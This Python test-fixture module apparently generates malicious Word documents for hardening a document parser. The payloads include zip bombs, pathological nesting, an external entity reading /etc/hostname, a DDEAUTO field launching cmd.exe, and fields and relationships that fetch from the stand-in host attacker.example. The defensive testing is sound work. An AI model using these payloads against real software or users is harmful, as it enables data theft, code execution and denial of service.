"""Word documents made to do harm."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial

from attack_zips import Long, entry, zip_of
from word_documents import (
    _package,
    cell,
    paragraph,
    part,
    row,
    run,
    table,
)

from planxl.cells.limits import of_documents

Make = Callable[[], bytes]
_LIMITS = of_documents()
_MOST = min(_LIMITS.part, _LIMITS.inflated) - 8_000_000
_FILLER = int(_MOST / _LIMITS.ratio) + 200_000
_MAIN = "word/document.xml"
_HEADINGS = ("Aktivitet", "Ansvarig", "När")
_PLAN = table(_HEADINGS, ("Utbildning", "Kommunen", "2025"))


def word(*body: str, parts: Mapping[str, str] | None = None) -> bytes:
    """A document of fragments, with a table of a plan."""
    return zip_of(
        [
            entry(name, text)
            for name, text in _package("".join((*body, _PLAN)), parts or {}, {}).items()
        ]
    )


def long(unit: str, begins: str = "", ends: str = "") -> bytes:
    """A document of as much of that as there is room for."""
    parts = _package("@", {}, {})
    head, tail = parts.pop(_MAIN).split("@")
    whole = Long(head + begins, unit, _MOST, ends + tail, _FILLER)
    return zip_of([*(entry(name, text) for name, text in parts.items()), whole.entry(_MAIN)])


def huge(size: int) -> bytes:
    parts = _package("@", {}, {})
    head, tail = parts.pop(_MAIN).split("@")
    whole = Long(head, "<w:p/>", size, tail)
    return zip_of([*(entry(name, text) for name, text in parts.items()), whole.entry(_MAIN)])


def nested_tables(depth: int) -> bytes:
    begin = "<w:tbl><w:tr><w:tc>"
    return word(begin * depth + paragraph("x") + "<w:p/></w:tc></w:tr></w:tbl>" * depth)


def wide_tables(depth: int, width: int) -> bytes:
    """Tables within tables as deep as may be, each with a few rows of text beside the next."""
    beside = row(*[cell(paragraph("beside")) for _ in range(width)]) * 40
    inner = paragraph("x")
    for _ in range(depth):
        inner = table(beside, row(cell(inner, paragraph())))
    return word(inner)


def spans(tag: str = "gridSpan", value: str = "1000000000", rows: int = 1) -> bytes:
    wide = cell("x", properties=f'<w:{tag} w:val="{value}"/>')
    return word(table(row(wide, wide) * rows, row("a", "b")))


def gaps(value: str = "1000000000") -> bytes:
    skipped = f'<w:gridBefore w:val="{value}"/><w:gridAfter w:val="{value}"/>'
    return word(table(row("a", "b", properties=skipped), row("a", "b")))


def merged_down(rows: int) -> bytes:
    first = row(cell("x", properties='<w:vMerge w:val="restart"/>'), "y")
    more = row(cell(properties="<w:vMerge/>"), "y") * rows
    return word(table(first, more))


def styles_in_a_circle() -> bytes:
    made = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 9}"/>'
        f'<w:link w:val="s{n}"/><w:next w:val="s{n}"/></w:style>'
        for n in range(9)
    )
    shown = paragraph("x", properties='<w:pStyle w:val="s1"/>')
    return word(shown, parts={"styles": part("styles", made)})


def styles_in_a_chain(count: int) -> bytes:
    made = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>'
        for n in range(count)
    )
    shown = paragraph("x", properties='<w:pStyle w:val="s0"/>') * 2_000
    return word(shown, parts={"styles": part("styles", made)})


def numbered(count: int) -> bytes:
    levels = f'<w:lvl w:ilvl="0"><w:start w:val="{10**9}"/><w:numFmt w:val="lowerLetter"/></w:lvl>'
    lists = f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum><w:num w:numId="1">'
    lists += '<w:abstractNumId w:val="1"/></w:num>'
    listed = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
    return word(
        paragraph("x", properties=listed) * count, parts={"numbering": part("numbering", lists)}
    )


def roman(start: int = 10**9) -> bytes:
    data = numbered(3)
    del data
    levels = f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="upperRoman"/>'
    levels += '<w:lvlText w:val="%1."/></w:lvl>'
    lists = f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum><w:num w:numId="1">'
    lists += '<w:abstractNumId w:val="1"/></w:num>'
    listed = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
    return word(paragraph("x", properties=listed), parts={"numbering": part("numbering", lists)})


_FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{}'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
_ASKING = (
    "INCLUDETEXT &quot;{0}a.docx&quot;",
    "INCLUDEPICTURE &quot;{0}a.png&quot; \\d",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
    "LINK Excel.Sheet.8 &quot;{0}b.xlsx&quot; A1 \\a",
    "IMPORT &quot;{0}c&quot;",
    "HYPERLINK &quot;{0}d&quot;",
)


def asking(place: str = "http://attacker.example/") -> bytes:
    """Everything that a document may ask a program to fetch or to run."""
    fields = "".join(paragraph(_FIELD.format(each.format(place))) for each in _ASKING)
    chunk = '<w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/>'
    template = f'<w:attachedTemplate xmlns:r="x" r:id="t" w:val="{place}"/>'
    package = _package(fields + chunk + _PLAN, {"settings": part("settings", template)}, {})
    kinds = ("attachedTemplate", "aFChunk", "subDocument", "frame", "oleObject", "image", "header")
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="{kind}" Type="{office}/{kind}" Target="{place}{kind}" '
        'TargetMode="External"/>'
        for kind in kinds
    )
    name = "word/_rels/document.xml.rels"
    package[name] = package[name].replace("</Relationships>", f"{links}</Relationships>")
    package["word/_rels/settings.xml.rels"] = package[name]
    return zip_of([entry(part_, text) for part_, text in package.items()])


def nested_fields(depth: int) -> bytes:
    begin = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
    )
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return word(paragraph(begin * depth + run("x") + end * depth))


def footnotes(count: int) -> bytes:
    """Footnotes that refer to each other, and all of which the text refers to again and again."""
    notes = "".join(
        f'<w:footnote w:id="{n}">{paragraph(f"""<w:r><w:footnoteReference w:id="{n}"/></w:r>""")}'
        "</w:footnote>"
        for n in range(count)
    )
    body = "".join(paragraph(f'<w:r><w:footnoteReference w:id="{n}"/></w:r>') for n in range(count))
    return word(body, parts={"footnotes": part("footnotes", notes)})


def external_entity() -> bytes:
    package = _package(paragraph("&x;") + _PLAN, {}, {})
    package[_MAIN] = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + package[_MAIN]
    return zip_of([entry(name, text) for name, text in package.items()])


def headers(count: int) -> bytes:
    """One header, which is referred to so often."""
    package = _package(_PLAN, {"header": part("hdr", paragraph("x" * 10_000))}, {})
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="h{n}" Type="{office}/header" Target="header.xml"/>'
        for n in range(count)
    )
    name = "word/_rels/document.xml.rels"
    package[name] = package[name].replace("</Relationships>", f"{links}</Relationships>")
    return zip_of([entry(part_, text) for part_, text in package.items()])


_ROW = row("Utbildning i suicidprevention", "Kommunen", "2025")
WORDS: Mapping[str, Make] = {
    "zip bomb of 1 GB": partial(huge, 1_000_000_000),
    "external entity": external_entity,
    "paragraphs": partial(long, "<w:p><w:r><w:t>x</w:t></w:r></w:p>"),
    "empty paragraphs": partial(long, "<w:p/>"),
    "runs of one paragraph": partial(long, "<w:r><w:t>ab </w:t></w:r>", "<w:p>", "</w:p>"),
    "one run of text": partial(long, "abcdefg ", "<w:p><w:r><w:t>å", "</w:t></w:r></w:p>"),
    "tracked changes": partial(
        long, '<w:del w:author="a"><w:r><w:delText>ab</w:delText></w:r></w:del>', "<w:p>", "</w:p>"
    ),
    "rows of a table": partial(long, _ROW, f"<w:tbl>{row(*_HEADINGS)}", "</w:tbl>"),
    "cells of a row": partial(
        long, "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>", "<w:tbl><w:tr>", "</w:tr></w:tbl>"
    ),
    "tables": partial(long, table(_HEADINGS, ("a", "b", "c"))),
    "tables in tables, 10 000": partial(nested_tables, 10_000),
    "tables in tables, 60": partial(nested_tables, 60),
    "tables in tables, full": partial(wide_tables, 60, 60),
    "deep nesting": partial(long, "<w:sdt><w:sdtContent>"),
    "gridSpan of 1e9": spans,
    "gridSpan of 60 on 5 000 rows": partial(spans, value="60", rows=5_000),
    "gridSpan of 63 000 digits": partial(spans, value="9" * 63_000),
    "gridBefore of 1e9": gaps,
    "vMerge over 20 000 rows": partial(merged_down, 20_000),
    "styles in a circle": styles_in_a_circle,
    "styles in a chain of 20 000": partial(styles_in_a_chain, 20_000),
    "a list that begins at 1e9": partial(numbered, 3),
    "a list that begins at 1e9, Roman": roman,
    "fields, templates, chunks": asking,
    "fields in fields, 200": partial(nested_fields, 200),
    "20 000 footnotes": partial(footnotes, 20_000),
    "one header 20 000 times": partial(headers, 20_000),
}
